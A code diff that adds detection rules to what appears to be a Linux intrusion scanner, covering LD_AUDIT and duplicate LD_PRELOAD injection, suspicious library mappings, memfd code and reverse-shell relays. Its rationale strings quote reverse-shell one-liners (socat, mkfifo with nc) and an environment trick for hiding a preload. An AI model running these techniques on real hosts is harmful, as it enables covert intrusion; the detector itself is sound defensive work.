@@ -92,10 +92,39 @@ export const IOC_CHECKS: CheckInput[] = [
     rationale:
       "LD_PRELOAD injects a library into the process: the classic user-land rootkit and credential-sniffing " +
       "technique. Critical when a library lies in a temp, world-writable or home location or relative to the current " +
-      "directory; with --ioc-env-trust, info when every library is root-owned in a system library directory.",
+      "directory; with --ioc-env-trust, info when every library is root-owned in a system library directory. Every " +
+      "copy of the variable in the environment is judged: glibc's loader uses the last, getenv and musl the first.",
     remediation:
       "Identify the library and who set the variable (service unit, shell profile, parent process).",
     mitre: ["T1574.006"],
+  }),
+  mk({
+    id: "ioc.process.ld_audit",
+    title: "Process runs with LD_AUDIT",
+    severity: "high",
+    rationale:
+      "LD_AUDIT loads libraries into the process before anything else, like LD_PRELOAD (their constructors run even " +
+      "when they are not valid audit interfaces), and few tools look at it. Critical when a library lies in a temp, " +
+      "world-writable or home location or relative to the current directory; with --ioc-env-trust, info when every " +
+      "library is root-owned in a system library directory.",
+    remediation:
+      "Identify the library and who set the variable (service unit, shell profile, parent process).",
+    mitre: ["T1574.006"],
+  }),
+  mk({
+    id: "ioc.process.ld_env_duplicate",
+    title: "Dynamic-linker variable set more than once in one environment",
+    severity: "high",
+    rationale:
+      "An environment block can name a variable twice, and the readers disagree: glibc's dynamic loader uses the " +
+      "last LD_* copy while getenv, the program itself and most tools (ps e, /proc parsers) see the first. " +
+      "`LD_PRELOAD=` followed by `LD_PRELOAD=/x.so` preloads /x.so while looking empty. Shells and service " +
+      "managers never write duplicates, so this is a deliberate construction: high when the copies differ, low " +
+      "when they are identical.",
+    remediation:
+      "Read the whole block (tr '\\0' '\\n' < /proc/<pid>/environ), find the process that built it (its parent), " +
+      "and judge the library the loader took (the last copy) and /proc/<pid>/maps.",
+    mitre: ["T1574.006", "T1564"],
   }),
   mk({
     id: "ioc.process.ld_library_path",
@@ -107,6 +136,81 @@ export const IOC_CHECKS: CheckInput[] = [
       "the current directory; with --ioc-env-trust, info when every directory is a root-owned system library directory.",
     remediation: "Check each directory for libraries shadowing system ones; find who set the variable.",
     mitre: ["T1574.006"],
+  }),
+  mk({
+    id: "ioc.process.library_in_temp",
+    title: "Process has code mapped from a temporary directory",
+    severity: "high",
+    rationale:
+      "A shared object under a world-writable sticky directory (/tmp, /var/tmp, /dev/shm) is mapped executable in " +
+      "the process: a library injected with LD_PRELOAD, dlopen or a ptrace injector stays mapped after the " +
+      "environment is scrubbed. Installed software does not load code from there.",
+    remediation:
+      "Save the library (cp /proc/<pid>/map_files/<range>), identify how it was loaded (environment, " +
+      "/etc/ld.so.preload, the parent), and treat the process as compromised.",
+    mitre: ["T1574.006", "T1055"],
+  }),
+  mk({
+    id: "ioc.process.library_world_writable",
+    title: "Process has code mapped from a file any user can replace",
+    severity: "high",
+    rationale:
+      "The mapped shared object, or a directory on its path without the sticky bit, is world-writable: any local " +
+      "user can replace the code this program loads next time it starts.",
+    remediation:
+      "Remove the world-write bit (chmod o-w) from the file and its directories; check its integrity.",
+    mitre: ["T1574.006", "T1574.010"],
+  }),
+  mk({
+    id: "ioc.process.library_user_writable",
+    title: "Process has code mapped from a file a non-root user can replace",
+    severity: "medium",
+    rationale:
+      "The mapped shared object, or a directory on its path, is owned or group-writable by an account other than " +
+      "root: that account controls code in this process. High when the process runs as root. A library in the same " +
+      "location as the program's own executable is judged with the executable.",
+    remediation:
+      "Give the library and its directories to root (chown root:root, chmod go-w); check the file.",
+    mitre: ["T1574.006", "T1574.010"],
+  }),
+  mk({
+    id: "ioc.process.library_in_home",
+    title: "Process has code mapped from a home directory",
+    severity: "low",
+    rationale:
+      "Users run their own builds and virtual environments, so this is low; high when a root process maps code " +
+      "from a home that root does not own (that user controls code running as root). A library in the same home " +
+      "as the program's own executable is judged with the executable.",
+    remediation: "Confirm the library is expected for that program and user.",
+    mitre: ["T1574.006"],
+    confidence: "heuristic",
+  }),
+  mk({
+    id: "ioc.process.library_deleted",
+    title: "Process has code mapped from a deleted file",
+    severity: "high",
+    rationale:
+      "An injected library is often deleted once loaded. High by default; critical when it was in a temp, world-" +
+      "writable or home location; low when a root-owned file is back at the same system path (a package upgrade, " +
+      "restart pending). On the live host deletion is judged by the mapped inode (the maps line's inode against " +
+      "the path, then the link count through /proc/<pid>/map_files), so a file merely named 'x (deleted)' does " +
+      "not count; under --root, by the ' (deleted)' suffix.",
+    remediation:
+      "Save the mapped image from /proc/<pid>/map_files/<range> before the process exits; after an upgrade, " +
+      "restart the service.",
+    mitre: ["T1055", "T1070.004"],
+  }),
+  mk({
+    id: "ioc.process.memfd_code",
+    title: "Process executes code mapped from memory (memfd)",
+    severity: "high",
+    rationale:
+      "An executable mapping of a memfd is code with no file on disk: reflective loaders and in-memory droppers " +
+      "use it. Data mappings of memfds (browsers, Wayland, PipeWire) are not counted; the .NET runtime's W^X " +
+      "double mapping ('doublemapper' with libcoreclr mapped) is low.",
+    remediation:
+      "Save the mapping from /proc/<pid>/map_files/<range> and identify how the process was started.",
+    mitre: ["T1620", "T1055"],
   }),
   mk({
     id: "ioc.ld_so_preload.entries",
@@ -168,12 +272,27 @@ export const IOC_CHECKS: CheckInput[] = [
     mitre: ["T1059.004", "T1071"],
   }),
   mk({
+    id: "ioc.process.reverse_shell_relay",
+    title: "Shell whose terminal or pipes are relayed to a network connection",
+    severity: "critical",
+    rationale:
+      "A shell (or an interpreter running inline code) on a pty or pipes whose other end is held by a process with " +
+      "a connected TCP/UDP socket: `socat tcp:… exec:sh,pty`, `python -c 'pty.spawn(…)'` relays, " +
+      "`mkfifo f; sh -i < f | nc host port > f`. Both input and output must reach the network (`curl … | sh` " +
+      "does not); a pty held by a terminal server (sshd, dropbear, mosh-server, telnetd, from a program directory) is " +
+      "a login. A CGI shell script has the same shape: the remote address tells them apart.",
+    remediation: "Record the relay's remote address, save the process tree, and contain the host.",
+    mitre: ["T1059.004", "T1071"],
+  }),
+  mk({
     id: "ioc.process.hidden",
     title: "Process hidden from the /proc listing",
     severity: "critical",
     rationale:
-      "The pid answers at /proc/<pid> but the directory listing of /proc does not return it, checked twice: " +
-      "a rootkit is filtering the listing. Only checked on the live host.",
+      "The pid answers to getpgid(2) and at /proc/<pid>, but the directory listing of /proc does not return it, " +
+      "checked twice: a rootkit is filtering the listing. Every pid up to pid_max is swept within a budget (10 s, " +
+      "1 s with --fast-scan, the range in use first); meta.hidden_pid_sweep says what was covered. Only checked " +
+      "on the live host.",
     remediation:
       "Treat the host as compromised: collect memory and disk images from outside the running kernel.",
     mitre: ["T1014", "T1564.001"],
